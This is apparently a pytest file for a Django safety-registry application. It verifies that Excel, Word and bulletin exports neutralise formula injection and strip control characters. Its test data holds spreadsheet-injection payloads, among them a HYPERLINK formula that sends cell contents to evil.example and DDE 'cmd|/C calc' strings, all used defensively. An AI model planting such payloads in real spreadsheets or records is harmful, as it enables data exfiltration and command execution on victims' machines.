"""Excel exports never carry a live formula, round-trip the real text, and never fail on stored
control characters; Word documents and the bulletin strip those characters too (issue 8)."""

import io

import pytest
from django.conf import settings
from django.urls import reverse
from docx import Document as WordDocument
from openpyxl import Workbook, load_workbook

from anjian.core.excel import FORMULA_TRIGGERS, append_row
from anjian.registry.models import Enterprise

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "address": "+1+cmd|' /C calc'!A0",
    "legal_representative": "-2+3",
    "safety_manager": "@SUM(1,1)",
    "phone": "=1+1",
}
# PostgreSQL text cannot hold NUL at all, so only SQLite can have stored it.
CONTROL = "".join(
    chr(c)
    for c in range(0x20)
    if chr(c) not in "\t\n\r"
    and not (c == 0 and settings.DATABASES["default"]["ENGINE"].endswith("postgresql"))
)


def cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_every_trigger_is_written_as_text_not_formula(tmp_path):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("s")
    append_row(sheet, [f"{t}1+1" for t in FORMULA_TRIGGERS] + [3, "普通文本"])
    book.save(tmp_path / "t.xlsx")
    row = next(load_workbook(tmp_path / "t.xlsx").worksheets[0].iter_rows())
    assert [c.data_type for c in row[:6]] == ["s"] * 6
    assert all(c.quotePrefix for c in row[:6])
    assert [c.value for c in row[:6]] == [f"{t}1+1" for t in FORMULA_TRIGGERS]
    assert (row[6].value, row[7].value) == (3, "普通文本")


def test_enterprise_export_has_no_formula_and_keeps_the_text(login, county_admin, enterprise_a):
    Enterprise.objects.filter(pk=enterprise_a.pk).update(**HOSTILE)
    response = login(county_admin).get(reverse("registry:enterprise_export"))
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    found = {c.value: c for c in cells(content)}
    assert not [c for c in found.values() if c.data_type == "f"]
    for value in HOSTILE.values():
        assert found[value].data_type == "s" and found[value].quotePrefix


def test_hostile_names_survive_export_then_import(login, county_admin, enterprise_a, tmp_path):
    Enterprise.objects.filter(pk=enterprise_a.pk).update(**HOSTILE)
    client = login(county_admin)
    content = client.get(reverse("registry:enterprise_export")).content
    Enterprise.objects.all().delete()
    path = tmp_path / "back.xlsx"
    path.write_bytes(content)
    with path.open("rb") as handle:
        response = client.post(reverse("registry:enterprise_import"), {"file": handle})
    assert response.status_code == 302, response.content.decode()[:2000]
    back = Enterprise.objects.get()
    assert {k: getattr(back, k) for k in HOSTILE} == HOSTILE


@pytest.mark.parametrize(
    "name",
    [
        "registry:enterprise_export",
        "hazards:hazard_export",
        "accidents:accident_export",
        "risks:point_export",
    ],
)
def test_exports_strip_stored_control_characters(login, county_admin, enterprise_a, name):
    Enterprise.objects.filter(pk=enterprise_a.pk).update(
        name=f"甲{CONTROL}厂", address=f"路{CONTROL}"
    )
    response = login(county_admin).get(reverse(name))
    assert response.status_code == 200
    load_workbook(io.BytesIO(response.content))  # a valid workbook


def test_enterprise_export_strips_control_characters(login, county_admin, enterprise_a):
    Enterprise.objects.filter(pk=enterprise_a.pk).update(name=f"甲{CONTROL}厂")
    response = login(county_admin).get(reverse("registry:enterprise_export"))
    assert "甲厂" in {c.value for c in cells(response.content)}


def test_word_documents_strip_stored_control_characters(
    login, county_admin, enterprise_a, town_a_officer
):
    from anjian.hazards.models import Hazard
    from anjian.hazards.services import hazard_create
    from tests.hazards.conftest import hazard_data

    hazard = hazard_create(
        actor=town_a_officer, data=hazard_data(enterprise=enterprise_a, source="inspection")
    )
    Hazard.objects.filter(pk=hazard.pk).update(
        description=f"消防通道{CONTROL}堵塞", measures=f"清理{CONTROL}"
    )
    Enterprise.objects.filter(pk=enterprise_a.pk).update(name=f"甲{CONTROL}厂")
    response = login(county_admin).get(reverse("hazards:hazard_order_docx", args=[hazard.pk]))
    assert response.status_code == 200
    text = "\n".join(p.text for p in WordDocument(io.BytesIO(response.content)).paragraphs)
    assert "消防通道堵塞" in text and "甲厂" in text


def test_bulletin_strips_stored_control_characters(login, county_admin, town_a, sectors):
    import datetime as dt

    from django.utils import timezone

    from anjian.accidents.models import Accident

    moment = timezone.make_aware(dt.datetime(2024, 3, 5, 10))
    accident = Accident.objects.create(
        title="坠落",
        occurred_at=moment,
        reported_at=moment,
        town=town_a,
        sector=sectors["construction"],
        accident_type="09",
        deaths=1,
    )
    Accident.objects.filter(pk=accident.pk).update(title=f"坠{CONTROL}落")
    from anjian.accounts.models import Town

    Town.objects.filter(pk=town_a.pk).update(name=f"甲{CONTROL}镇")
    response = login(county_admin).get(
        reverse("accidents:bulletin_download"), {"period": "2024-03"}
    )
    assert response.status_code == 200
    text = "\n".join(p.text for p in WordDocument(io.BytesIO(response.content)).paragraphs)
    assert "甲镇" in text


def test_duty_roster_export_has_no_formula(login, county_admin, town_a):
    from anjian.accounts.units import Unit
    from anjian.duty.models import DutyShift
    from anjian.duty.services import roster_create
    from tests.duty.conftest import local

    roster = roster_create(
        actor=county_admin,
        unit=Unit.of_town(town_a),
        title="国庆值班表",
        starts_at=local(2026, 10, 1),
        ends_at=local(2026, 10, 2),
        shifts=[
            {
                "starts_at": local(2026, 10, 1),
                "ends_at": local(2026, 10, 2),
                "leader": "韦",
                "staff": "李",
                "phone": "0771-1",
            }
        ],
    )
    DutyShift.objects.filter(roster=roster).update(
        leader="=cmd|'/C calc'!A0", staff=f"李{CONTROL}明"
    )
    response = login(county_admin).get(reverse("duty:roster_export", args=[roster.pk]))
    content = b"".join(response.streaming_content) if response.streaming else response.content
    found = {c.value: c for c in cells(content)}
    assert not [c for c in found.values() if c.data_type == "f"]
    assert found["=cmd|'/C calc'!A0"].data_type == "s" and "李明" in found
